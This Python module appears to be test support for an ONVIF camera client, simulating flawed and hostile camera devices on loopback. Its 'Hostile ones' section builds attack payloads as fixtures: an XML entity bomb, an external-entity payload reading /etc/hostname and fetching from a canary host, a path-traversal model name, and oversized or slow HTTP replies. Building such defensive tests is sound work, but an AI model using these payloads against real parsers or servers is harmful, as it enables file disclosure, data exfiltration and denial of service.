"""ONVIF devices that behave as firmware in the field does, and worse; each chosen by name.

`python -m tests.support.personalities NAME [--address 127.0.0.9]` runs one until standard input closes (user admin, password
camera-1), for whoever wants to try a client of their own. The table in docs/reference/cameras.md is held against
`ALL` by a test.
"""

from __future__ import annotations

import argparse
import contextlib
import itertools
import os
import re
import secrets
import selectors
import socket
import socketserver
import ssl
import subprocess
import sys
import tempfile
import threading
import time
import xml.etree.ElementTree as ET
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import timedelta
from typing import Any

from simulator.onvif_device import OnvifDevice
from simulator.onvif_operations import SimulatedSoapFault
from simulator.onvif_state import NAMESPACES, AudioEncoder, DeviceState, VideoEncoder
from simulator.personality import PRE_AUTH, Personality
from simulator.wsd import WsDiscoveryResponder

USERNAME, PASSWORD = "admin", "camera-1"
MEDIA2 = "http://www.onvif.org/ver20/media/wsdl"
NOWHERE = "127.255.255.254"  # an address of loopback's network where nothing listens


_nets = itertools.count(1)


def fresh_net() -> str:
    """The first three numbers of a loopback network that no other test, in this process or another, uses at this time."""
    pid = os.getpid()
    return f"127.{64 + pid % 128}.{(pid // 128 * 41 + next(_nets)) % 250 + 1}"


class CameraNetwork:
    """Each test's own network, `CameraNetwork.at` its first three numbers."""

    at = ""


@dataclass
class Bent(Personality):
    """Replies pass through `bend(operation, envelope)`; probes are answered in the form of `match`."""

    bend: Callable[[str, bytes], bytes] = lambda operation, envelope: envelope
    match: Callable[[bytes], list[bytes]] = lambda envelope: [envelope]

    def reply(self, operation: str, envelope: bytes) -> bytes:
        return self.bend(operation, envelope)

    def probe_match(self, envelope: bytes) -> list[bytes]:
        return self.match(envelope)


class Simulated:
    """One device on one address, discoverable, without a video stream behind its URI."""

    def __init__(self, address: str, personality: Personality, state: DeviceState | None = None) -> None:
        self.address = address
        self.state = state or DeviceState(serial=f"SIM{address.replace('.', '')}")
        self.device = self.make_device(personality)
        self.discovery = self.responder(
            address, lambda: self.state.endpoint, lambda: [self.device.xaddr()], self.state.scopes, personality
        )

    def make_device(self, personality: Personality) -> OnvifDevice:
        streams = {f"profile_{n}": lambda n=n: f"rtsp://{self.address}:554/{n}" for n in ("main", "sub")}
        return self.kind(self.state, personality, self.address, 0, USERNAME, PASSWORD, streams)  # type: ignore[arg-type]

    kind: type[OnvifDevice] = OnvifDevice
    responder: type[WsDiscoveryResponder] = WsDiscoveryResponder

    def __enter__(self) -> Simulated:
        self.device.start()
        self.discovery.start()
        return self

    def __exit__(self, *_: object) -> None:
        self.discovery.stop()
        self.device.stop()


class _LateResponder(WsDiscoveryResponder):
    """Answers each probe 0.9 s after it came; each answer goes out on its own, whatever comes meanwhile."""

    def _serve(self, sockets: list[socket.socket]) -> None:
        with selectors.DefaultSelector() as selector, contextlib.ExitStack() as stack:
            for sock in sockets:
                stack.enter_context(sock)
                selector.register(sock, selectors.EVENT_READ)
            while not self._stop.is_set():
                for key, _ in selector.select(0.1):
                    data, sender = key.fileobj.recvfrom(65536)  # type: ignore[union-attr]
                    for reply in self.replies(data.decode("utf-8", "replace")):
                        threading.Timer(0.9, _send_late, (sockets[1], reply, sender)).start()


def _send_late(sock: socket.socket, reply: bytes, sender: tuple[str, int]) -> None:
    with contextlib.suppress(OSError):
        sock.sendto(reply, sender)


class _RestlessNonce(OnvifDevice):
    """Each nonce is good for one request, and nothing says `stale`."""

    def authorise(self, operation: str, header: ET.Element | None, authorization: str, method: str) -> None:
        super().authorise(operation, header, authorization, method)
        if authorization:
            self.nonce = secrets.token_hex(16)


class _BasicOnly(OnvifDevice):
    def challenges(self) -> list[str]:
        return ['Basic realm="onvif"']


class _WithMedia2(OnvifDevice):
    """Profile T: H.265 is told by Media2 alone; Media knows nothing of it."""

    def answer(self, operation: str, request: ET.Element) -> str:
        if operation == "GetServices":
            service = f"<tds:Namespace>{MEDIA2}</tds:Namespace><tds:XAddr>{self.xaddr('media2')}</tds:XAddr>"
            return super().answer(operation, request) + f"<tds:Service>{service}</tds:Service>"
        if MEDIA2 in request.tag and operation == "GetProfiles":
            return _MEDIA2_PROFILE.format(token="profile_main")
        if MEDIA2 in request.tag and operation == "GetStreamUri":
            return f"<trt:Uri>rtsp://{self.address}:554/main</trt:Uri>"
        if operation == "GetProfiles":
            return ""
        return super().answer(operation, request)


_MEDIA2_PROFILE = (
    '<trt:Profiles token="{token}" fixed="true"><trt:Name>main</trt:Name><trt:Configurations>'
    '<trt:VideoEncoder token="v" GovLength="50" Profile="Main"><tt:Name>v</tt:Name><tt:Encoding>H265</tt:Encoding>'
    "<tt:Resolution><tt:Width>2560</tt:Width><tt:Height>1440</tt:Height></tt:Resolution>"
    '<tt:RateControl ConstantBitRate="true"><tt:FrameRateLimit>25</tt:FrameRateLimit><tt:BitrateLimit>3072</tt:BitrateLimit>'
    '</tt:RateControl></trt:VideoEncoder><trt:AudioEncoder token="a"><tt:Encoding>MP4A-LATM</tt:Encoding>'
    "</trt:AudioEncoder></trt:Configurations></trt:Profiles>"
)


def _of_kind(kind: type[OnvifDevice], **switches: Any) -> Callable[[str], Simulated]:
    made = type("Made", (Simulated,), {"kind": kind})
    return lambda address: made(address, Personality(**switches))


def _like(**switches: Any) -> Callable[[str], Simulated]:
    return lambda address: Simulated(address, Personality(**switches))


def _bent(**switches: Any) -> Callable[[str], Simulated]:
    return lambda address: Simulated(address, Bent(**switches))


def _stated(**fields: Any) -> Callable[[str], Simulated]:
    return lambda address: Simulated(address, Personality(), DeviceState(**{"serial": f"SIM{address}", **fields}))


def _stale_xaddr(address: str) -> Simulated:
    made = Simulated(address, Personality())
    made.device.personality.xaddr_host = None
    # the true port is known only once it listens
    made.discovery._xaddrs = lambda: [f"http://{NOWHERE}:{made.device.port}/onvif/device_service"]
    return made


def _inside(operation: str, before: str, after: str) -> Callable[[str, bytes], bytes]:
    def bend(asked: str, envelope: bytes) -> bytes:
        return envelope.replace(before.encode(), after.encode()) if asked == operation else envelope

    return bend


def _bare_match(envelope: bytes) -> list[bytes]:
    """ProbeMatch without the ProbeMatches around it, as one device on PyPI sends."""
    return [envelope.replace(b"<d:ProbeMatches>", b"").replace(b"</d:ProbeMatches>", b"")]


# Sloppy ones: what firmware in the field gets wrong without meaning harm


def _fails(*operations: str, how: Callable[[], Exception] | None = None) -> type[OnvifDevice]:
    """Some operations end in a fault, or in what `how` raises: a connection that is closed without an answer."""

    class FaultingDevice(OnvifDevice):
        def answer(self, operation: str, request: ET.Element) -> str:
            if operation in operations or not operations:
                raise (
                    how()
                    if how
                    else SimulatedSoapFault(400, "SOAP-ENV:Sender", f"Method '{operation}' not implemented")
                )
            return super().answer(operation, request)

    return FaultingDevice


class _LocalAsUtc(OnvifDevice):
    """UTCDateTime carries local time, ten hours ahead; tokens are held against the true time."""

    def answer(self, operation: str, request: ET.Element) -> str:
        if operation == "GetSystemDateAndTime":
            return self.state.date_and_time(self.now() + timedelta(hours=10))
        return super().answer(operation, request)


def _local_only(operation: str, envelope: bytes) -> bytes:
    zone = b"<tt:TimeZone><tt:TZ>CST-8</tt:TZ></tt:TimeZone>"
    return envelope.replace(zone, b"").replace(b"UTCDateTime", b"LocalDateTime")


def _cut(operation: str, at: bytes, times: int = 1 << 30) -> Callable[[str, bytes], bytes]:
    """Replies of one operation end after `at`, the first so many times."""
    left = itertools.count(1)

    def bend(asked: str, envelope: bytes) -> bytes:
        if asked != operation or at not in envelope or next(left) > times:
            return envelope
        return envelope[: envelope.index(at) + len(at)]

    return bend


def _crossed(operation: str, envelope: bytes) -> bytes:
    return envelope.replace(b"</tt:Resolution>", b"</tt:Quality>", 1) if operation == "GetProfiles" else envelope


def _bare_encoder(operation: str, envelope: bytes) -> bytes:
    """The main stream's encoder has a name and nothing else."""
    bare = rb"\1<tt:Name>m</tt:Name><tt:UseCount>1</tt:UseCount>\2"
    pattern = rb'(<tt:VideoEncoderConfiguration token="main">).*?(</tt:VideoEncoderConfiguration>)'
    return re.sub(pattern, bare, envelope) if operation == "GetProfiles" else envelope


class _HttpsOnly(Simulated):
    """Serves HTTPS with a certificate of its own making; plain HTTP sends every request on to it."""

    def __enter__(self) -> Simulated:
        self.device.start()
        server = self.device._server
        assert server
        with tempfile.TemporaryDirectory() as folder:
            key, certificate = f"{folder}/key", f"{folder}/certificate"
            command = ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=IPC"]
            subprocess.run([*command, "-keyout", key, "-out", certificate], check=True, capture_output=True)
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            context.load_cert_chain(certificate, key)
        server.socket = context.wrap_socket(server.socket, server_side=True, do_handshake_on_connect=False)
        there = f"Location: https://{self.address}:{self.device.port}/?r=1\r\n"
        self._plain = _Raw((self.address, 0), _RawHandler)
        self._plain.script = lambda: iter([_http(b"", "302 Moved Temporarily", there)])
        threading.Thread(target=self._plain.serve_forever, args=(0.05,), daemon=True).start()
        port = self._plain.server_address[1]
        self.device.xaddr = lambda service="device": f"http://{self.address}:{port}/onvif/{service}_service"  # type: ignore[method-assign]
        self.discovery.start()
        return self

    def __exit__(self, *_: object) -> None:
        super().__exit__()
        self._plain.shutdown()
        self._plain.server_close()


# Hostile ones


class _Raw(socketserver.ThreadingTCPServer):
    daemon_threads = True
    block_on_close = False
    allow_reuse_address = True
    script: Callable[[], Iterator[bytes]]

    def handle_error(self, request: Any, client_address: Any) -> None:
        """A client that hangs up in the middle is what is hoped for."""


class _RawHandler(socketserver.BaseRequestHandler):
    def handle(self) -> None:
        self.request.settimeout(5)
        with contextlib.suppress(OSError):
            self.request.recv(65536)
            for piece in self.server.script():  # type: ignore[attr-defined]
                self.request.sendall(piece)


class Hostile(Simulated):
    """Discovery is honest; what HTTP answers is a script of bytes."""

    def __init__(self, address: str, script: Callable[[], Iterator[bytes]]) -> None:
        super().__init__(address, Personality())
        self._script = script

    def __enter__(self) -> Hostile:
        self._raw = _Raw((self.address, 0), _RawHandler)
        self._raw.script = self._script
        self.device.port = self._raw.server_address[1]
        threading.Thread(target=self._raw.serve_forever, args=(0.05,), daemon=True).start()
        self.discovery.start()
        return self

    def __exit__(self, *_: object) -> None:
        self.discovery.stop()
        self._raw.shutdown()
        self._raw.server_close()


def _http(body: bytes, status: str = "200 OK", head: str = "") -> bytes:
    lines = f"HTTP/1.1 {status}\r\nContent-Type: application/soap+xml\r\nContent-Length: {len(body)}\r\n{head}\r\n"
    return lines.encode() + body


def _envelope(inner: str, before: str = "") -> bytes:
    names = "".join(f' xmlns:{k}="{v}"' for k, v in NAMESPACES.items())
    start = f'<?xml version="1.0"?>{before}<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"{names}>'
    return f"{start}<s:Body>{inner}</s:Body></s:Envelope>".encode()


def _information(model: str) -> str:
    fields = {"Manufacturer": "Example", "Model": model, "FirmwareVersion": "1", "SerialNumber": "X", "HardwareId": "X"}
    inner = "".join(f"<tds:{k}>{v}</tds:{k}>" for k, v in fields.items())
    return f"<tds:GetDeviceInformationResponse>{inner}</tds:GetDeviceInformationResponse>"


def _bomb() -> bytes:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return _http(_envelope(_information("&l9;"), f'<!DOCTYPE s [<!ENTITY l0 "ha">{laughs}]>'))


def _external(canary: str) -> bytes:
    entities = f'<!ENTITY f SYSTEM "file:///etc/hostname"><!ENTITY h SYSTEM "http://{canary}/secret">'
    dtd = f'<!DOCTYPE s SYSTEM "http://{canary}/evil.dtd" [{entities}]>'
    return _http(_envelope(_information("&f;&h;"), dtd))


def _wsdl(canary: str) -> bytes:
    text = (
        '<?xml version="1.0"?><wsdl:definitions xmlns:wsdl="http://schemas.xmlsoap.org/wsdl/">'
        f'<wsdl:import namespace="urn:x" location="http://{canary}/more.wsdl"/></wsdl:definitions>'
    )
    return _http(text.encode())


def _scripted(*pieces: bytes) -> Callable[[str], Simulated]:
    return lambda address: Hostile(address, lambda: iter(pieces))


def _huge() -> Iterator[bytes]:
    yield b"HTTP/1.1 200 OK\r\nContent-Type: application/soap+xml\r\n\r\n"
    for _ in range(512):
        yield b"<a>" * 43691


def _drip() -> Iterator[bytes]:
    yield b"HTTP/1.1 200 OK\r\n"
    for n in range(4000):
        time.sleep(0.05)
        yield f"X-{n}: 1\r\n".encode()


def _heads() -> Iterator[bytes]:
    yield b"HTTP/1.1 200 OK\r\n"
    for n in range(200_000):
        yield f"X-{n}: {'y' * 200}\r\n".encode()


@dataclass(frozen=True)
class Case:
    """`does` is the line of the documentation, `verdict` and `says` (a key of the words; "" for none) what must come out.
    `canary` devices point at an address that must never be contacted; `extra` names what a test looks at besides."""

    name: str
    does: str
    verdict: str
    says: str
    make: Callable[[str], Simulated]
    extra: dict[str, Any] = field(default_factory=dict)


def cases(canary: str = f"{NOWHERE}:9") -> list[Case]:
    """All personalities; `canary` is the `host:port` that hostile ones point at."""
    eight_hours = timedelta(hours=8)
    only_token: dict[str, Any] = {"http_digest": ()}
    only_digest: dict[str, Any] = {"wsse": False}
    return [
        Case("decent", "keeps to the standard", "admitted", "", _like()),
        Case("digest-only", "HTTP digest (MD5), no WS-UsernameToken", "admitted", "", _like(**only_digest)),
        Case(
            "digest-sha256",
            "HTTP digest with SHA-256 only",
            "admitted",
            "",
            _like(http_digest=("SHA-256",), **only_digest),
        ),
        Case(
            "digest-both",
            "offers MD5 first and SHA-256 second",
            "admitted",
            "",
            _like(http_digest=("MD5", "SHA-256"), **only_digest),
        ),
        Case(
            "nonce-once",
            "a new nonce for each request, never marked stale",
            "admitted",
            "",
            _of_kind(_RestlessNonce, **only_digest),
        ),
        Case("token-only", "WS-UsernameToken, no HTTP digest", "admitted", "", _like(**only_token)),
        Case(
            "clock-8h",
            "clock 8 h ahead, tokens older than 5 s refused",
            "admitted",
            "",
            _like(clock_offset=eight_hours, wsse_window=5.0, **only_token),
            {"offset": 28800},
        ),
        Case(
            "no-anonymous-time",
            "tells the time only with a password; clock 8 h ahead; HTTP Date is there",
            "admitted",
            "",
            _like(anonymous=frozenset(), clock_offset=eight_hours, wsse_window=5.0, **only_token),
            {"offset": 28800},
        ),
        Case(
            "no-time",
            "tells its time nowhere; clock 8 h ahead",
            "refused",
            "cameras.wrong_or_clock",
            _like(anonymous=frozenset(), clock_offset=eight_hours, wsse_window=5.0, date_header=False, **only_token),
        ),
        Case("soap-1.1", "SOAP 1.1 only", "admitted", "", _like(soap=("1.1",))),
        Case("soap-1.2", "SOAP 1.2 only", "admitted", "", _like(soap=("1.2",))),
        Case("fault-500", "faults come with HTTP 500", "admitted", "", _like(refusal_status=500, **only_token)),
        Case("fault-200", "faults come with HTTP 200", "admitted", "", _like(refusal_status=200, **only_token)),
        Case(
            "empty-200",
            "HTTP 200 with nothing in it for GetServices and GetNTP",
            "admitted",
            "",
            _like(empty=frozenset({"GetServices", "GetNTP"})),
        ),
        Case(
            "empty-always",
            "HTTP 200 with nothing in it, always",
            "refused",
            "cameras.empty",
            _like(empty=frozenset({"*"})),
        ),
        Case(
            "no-profiles",
            "answers, but GetProfiles is empty",
            "faulty",
            "cameras.empty",
            _like(empty=frozenset({"GetProfiles"})),
        ),
        Case("lockout", "locks itself after 5 wrong passwords", "admitted", "", _like(lockout=5)),
        Case(
            "basic-only",
            "wants the password in clear text",
            "refused",
            "cameras.clear_text",
            _of_kind(_BasicOnly, wsse=False, refusal_status=401),
        ),
        Case(
            "anonymous",
            "asks no password at all",
            "admitted",
            "",
            _bent(anonymous=PRE_AUTH | {"GetDeviceInformation", "GetProfiles", "GetStreamUri", "GetNTP"}),
        ),
        Case("stale-xaddr", "its discovery reply names an address it had before", "admitted", "", _stale_xaddr),
        Case("two-replies", "answers each probe three times", "admitted", "", _like(probe_copies=3)),
        Case(
            "late-reply",
            "answers a probe after 0.9 s",
            "admitted",
            "",
            lambda a: type("Late", (Simulated,), {"responder": _LateResponder})(a, Personality()),
        ),
        Case(
            "odd-action",
            "the action says ProbeMatch, and so does the body, with nothing around it",
            "admitted",
            "",
            _bent(match_action="ProbeMatch", match=_bare_match),
        ),
        Case("in-pieces", "HTTP replies in 15 pieces", "admitted", "", _like(pieces=15, pause_s=0.01)),
        Case("slow", "thinks for 0.3 s before each reply", "admitted", "", _like(delay_s=0.3)),
        Case(
            "stale-stream",
            "its stream URI names an address that is dead",
            "admitted",
            "",
            _like(stream_host=f"{NOWHERE}:554"),
            {"host": True},
        ),
        Case("no-serial", "has no serial number", "admitted", "", _stated(serial="", hardware="HW-77")),
        Case("media2", "H.265, told by Media2 only", "admitted", "", _of_kind(_WithMedia2), {"codec": "h265"}),
        Case("unlisted", "a model that is not on the list", "refused", "cameras.not_on_list", _stated(model="VC-99")),
        Case(
            "old-firmware",
            "a firmware that the list does not allow",
            "refused",
            "cameras.firmware",
            _stated(model="VC-2", firmware="V1.1.9 build 7"),
        ),
        Case(
            "small-picture",
            "640×360",
            "faulty",
            "cameras.differs",
            _stated(video=[VideoEncoder("main", width=640, height=360)]),
        ),
        Case(
            "long-gop",
            "a key frame each 10 s",
            "faulty",
            "cameras.differs_fixable",
            _stated(video=[VideoEncoder("main", gop=250)]),
        ),
        Case(
            "jpeg",
            "motion JPEG",
            "faulty",
            "cameras.differs_fixable",
            _stated(video=[VideoEncoder("main", encoding="JPEG")]),
        ),
        Case("no-sound", "no microphone", "faulty", "cameras.no_sound", _stated(audio=[])),
        Case(
            "g726",
            "sound in a codec that the list does not allow",
            "faulty",
            "cameras.differs_fixable",
            _stated(audio=[AudioEncoder("audio", "G726")]),
        ),
        Case(
            "manual-time", "its clock is set by hand", "faulty", "cameras.differs_fixable", _stated(time_type="Manual")
        ),
        Case(
            "gbk-name",
            "its maker's name in GBK bytes, declared as UTF-8",
            "refused",
            "cameras.not_on_list",
            _bent(bend=lambda o, e: e.replace(b">Example<", b">" + "摄像".encode("gbk") + b"<")),
        ),
        Case(
            "evil-name",
            "control characters, a path and right-to-left marks in its model",
            "refused",
            "cameras.not_on_list",
            _bent(bend=_inside("GetDeviceInformation", "VC-1", "../../\x1b[31m\u202eetc\x07/passwd&#10;VC-1")),
            {"clean": True},
        ),
        Case(
            "long-name",
            "a model name of 200 kB",
            "refused",
            "cameras.not_on_list",
            _bent(bend=_inside("GetDeviceInformation", "VC-1", "V" * 200_000)),
            {"clean": True},
        ),
        Case(
            "internet-xaddr",
            "its discovery reply names an address outside the camera networks too",
            "admitted",
            "",
            _bent(extra_xaddrs=(f"http://{canary}/onvif/device_service",)),
            {"dropped": True},
        ),
        Case(
            "internet-services",
            "its media service is said to be outside the camera networks",
            "admitted",
            "",
            _bent(
                bend=lambda o, e: (
                    e if o != "GetServices" else e.replace(b"http://127", f"http://{canary}/http://127".encode())
                )
            ),
        ),
        Case(
            "internet-stream",
            "its stream is said to be outside the camera networks",
            "admitted",
            "",
            _like(stream_host=canary),
            {"host": True},
        ),
        Case(
            "no-time-operation",
            "does not know GetSystemDateAndTime, and sends no HTTP Date",
            "faulty",
            "cameras.not_told",
            _of_kind(_fails("GetSystemDateAndTime"), date_header=False, **only_token),
        ),
        Case(
            "time-hangs-up",
            "closes the connection where the time is asked",
            "faulty",
            "cameras.not_told",
            _of_kind(_fails("GetSystemDateAndTime", how=ConnectionAbortedError)),
        ),
        Case(
            "nothing-optional",
            "faults for time, services, capabilities and NTP",
            "faulty",
            "cameras.not_told",
            _of_kind(_fails("GetSystemDateAndTime", "GetServices", "GetCapabilities", "GetNTP"), **only_token),
        ),
        Case(
            "optional-hangs-up",
            "closes the connection for services, capabilities and NTP",
            "admitted",
            "",
            _of_kind(_fails("GetServices", "GetCapabilities", "GetNTP", how=ConnectionAbortedError)),
        ),
        Case("faults-only", "answers nothing but faults", "refused", "cameras.fault", _of_kind(_fails())),
        Case(
            "cut-uri",
            "its stream address ends too early",
            "faulty",
            "cameras.broken",
            _bent(bend=_cut("GetStreamUri", b"/ma")),
        ),
        Case(
            "cut-once",
            "its stream address ends too early the first time",
            "admitted",
            "",
            _bent(bend=_cut("GetStreamUri", b"/ma", times=1)),
            {"uri": "main"},
        ),
        Case(
            "cut-serial",
            "its serial number ends too early",
            "refused",
            "cameras.broken",
            _bent(bend=_cut("GetDeviceInformation", b"<tds:SerialNumber>SI")),
        ),
        Case(
            "cut-tail",
            "each reply is 15 bytes too short, behind the answer itself",
            "admitted",
            "",
            _bent(bend=lambda o, e: e[:-15]),
        ),
        Case("nul-tail", "a NUL byte behind each reply", "admitted", "", _bent(bend=lambda o, e: e + b"\0")),
        Case(
            "nul-padding",
            "fields padded with NUL bytes",
            "admitted",
            "",
            _bent(
                bend=lambda o, e: e.replace(b"</tds:Model>", b"\0\0</tds:Model>").replace(
                    b"</tt:Uri>", b"\0\0</tt:Uri>"
                )
            ),
            {"uri": "main"},
        ),
        Case(
            "bare-ampersand",
            "its stream address holds & as it is",
            "admitted",
            "",
            _bent(bend=_inside("GetStreamUri", "/main<", "/main?channel=1&subtype=0<")),
            {"uri": "main?channel=1&subtype=0"},
        ),
        Case(
            "crossed-profiles",
            "elements of its profiles end crosswise",
            "faulty",
            "cameras.broken",
            _bent(bend=_crossed),
        ),
        Case(
            "bare-encoder",
            "does not tell the main picture's size and codec",
            "faulty",
            "cameras.not_told",
            lambda a: Simulated(
                a,
                Bent(bend=_bare_encoder),
                DeviceState(
                    serial=f"SIM{a}", video=[VideoEncoder("main", width=2048, height=1536), VideoEncoder("sub")]
                ),
            ),
            {"uri": "main"},
        ),
        Case(
            "local-as-utc",
            "tells its local time as UTC; tokens are held against the true time",
            "admitted",
            "",
            _of_kind(_LocalAsUtc, **only_token),
            {"offset": 36000},
        ),
        Case(
            "local-only",
            "tells LocalDateTime alone, clock 8 h ahead",
            "admitted",
            "",
            _bent(bend=_local_only, clock_offset=eight_hours, wsse_window=5.0, date_header=False, **only_token),
            {"offset": 28800},
        ),
        Case(
            "clock-1979",
            "its clock is in 1979",
            "admitted",
            "",
            _like(clock_offset=timedelta(days=-17000), date_header=False, **only_token),
        ),
        Case(
            "https-only",
            "plain HTTP sends on to HTTPS on the same host",
            "admitted",
            "",
            lambda a: _HttpsOnly(a, Personality()),
        ),
        Case("xml-bomb", "entities that grow to gigabytes", "refused", "cameras.not_soap", _scripted(_bomb())),
        Case(
            "external-entity",
            "entities and a DTD from a file and from the network",
            "refused",
            "cameras.not_soap",
            _scripted(_external(canary)),
        ),
        Case(
            "wsdl-import",
            "a WSDL that imports another from the network",
            "refused",
            "cameras.not_soap",
            _scripted(_wsdl(canary)),
        ),
        Case(
            "redirect",
            "HTTP redirect to another host",
            "refused",
            "cameras.not_soap",
            _scripted(_http(b"moved", "307 Temporary Redirect", f"Location: http://{canary}/x\r\n")),
        ),
        Case(
            "deep",
            "200 000 elements inside each other",
            "refused",
            "cameras.not_soap",
            _scripted(_http(b"<a>" * 200_000)),
        ),
        Case("huge", "64 MB of reply", "refused", "cameras.reply_too_large", lambda a: Hostile(a, _huge)),
        Case("huge-head", "40 MB of HTTP headers", "refused", "cameras.not_http", lambda a: Hostile(a, _heads)),
        Case(
            "drip", "a header each 50 ms, for minutes", "unreachable", "cameras.too_slow", lambda a: Hostile(a, _drip)
        ),
        Case(
            "short-body",
            "fewer bytes than it promised",
            "refused",
            "cameras.not_soap",
            _scripted(b"HTTP/1.1 200 OK\r\nContent-Length: 900\r\n\r\n<a/>"),
        ),
        Case("garbage", "no HTTP at all", "refused", "cameras.not_http", _scripted(secrets.token_bytes(4096))),
        Case("hangs-up", "takes the connection and closes it", "unreachable", "cameras.no_answer", _scripted()),
    ]


ALL = {case.name: case for case in cases()}


def main() -> int:
    parser = argparse.ArgumentParser(
        prog="python -m tests.support.personalities", description="Run one simulated ONVIF device."
    )
    parser.add_argument("name", choices=sorted(ALL), metavar="NAME")
    parser.add_argument("--address", default="127.0.0.9")
    options = parser.parse_args()
    with ALL[options.name].make(options.address) as camera:
        print(camera.device.xaddr(), flush=True)
        sys.stdin.read()
    return 0


if __name__ == "__main__":
    sys.exit(main())
